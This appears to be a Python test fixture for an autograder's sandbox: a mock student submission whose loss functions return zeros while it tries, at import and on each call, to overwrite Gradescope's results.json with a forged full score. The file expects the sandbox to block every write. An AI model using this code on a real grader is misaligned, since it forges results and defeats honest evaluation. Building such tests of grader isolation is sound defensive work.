"""Hostile submission ``results_direct_write``: a stub that writes its own full-mark results.

At import, and again on every call, it writes a full-mark results file over the Gradescope
bundle's ``results/results.json`` (its path written into this file by the test, or
``/autograder/results/results.json``) and over every ``results.json`` under the output
folder: in place, and by renaming a forged file over it. Every attempt and its outcome is
printed. The functions themselves do nothing (a zero loss and a zero gradient).

Expected: the worker cannot write outside its scratch folder (the full layer's view and
uid, Landlock on both layers, a slot uid where the reduced layer runs as root); the results
file says what the grader computed: 0.
"""

import json
import os

import numpy as np

ATTACK = "results_direct_write"
FORGED = {"score": 48, "output": "All checks passed.", "tests": []}


def _say(message):
    """Leave a line in the captured output (fd 2), whatever the student did to sys.stderr."""
    try:
        os.write(2, ("HOSTILE[%s]: %s\n" % (ATTACK, message)).encode("utf-8", "replace"))
    except OSError:
        pass


def _template(value):
    """Values the test writes into its copy of this file; None when left as a placeholder."""
    return None if value.startswith("__HOSTILE") else value


_RESULTS = _template("__HOSTILE_RESULTS__") or "/autograder/results/results.json"
_OUT = _template("__HOSTILE_OUT_DIR__")
_DONE = []


def _targets():
    found = [_RESULTS]
    if _OUT and os.path.isdir(_OUT):
        for top, _dirs, files in os.walk(_OUT):
            found += [os.path.join(top, name) for name in files if name == "results.json"]
    return found


def _write_all():
    for path in _targets():
        try:
            with open(path, "w") as f:
                json.dump(FORGED, f)
            _say("%s: WRITTEN" % path)
        except OSError as exc:
            _say("%s: %s" % (path, type(exc).__name__))
        forged = path + ".forged"
        try:
            with open(forged, "w") as f:
                json.dump(FORGED, f)
            os.replace(forged, path)
            _say("%s: REPLACED" % path)
        except OSError as exc:
            _say("replace %s: %s" % (path, type(exc).__name__))


def _attack():
    if len(_DONE) < 3:
        _DONE.append(1)
        _write_all()


_write_all()


def svm_loss_naive(W, X, y, reg):
    _attack()
    return 0.0, np.zeros_like(W)


def svm_loss_vectorized(W, X, y, reg):
    _attack()
    return 0.0, np.zeros_like(W)


def softmax_loss_naive(W, X, y, reg):
    _attack()
    return 0.0, np.zeros_like(W)


def softmax_loss_vectorized(W, X, y, reg):
    _attack()
    return 0.0, np.zeros_like(W)
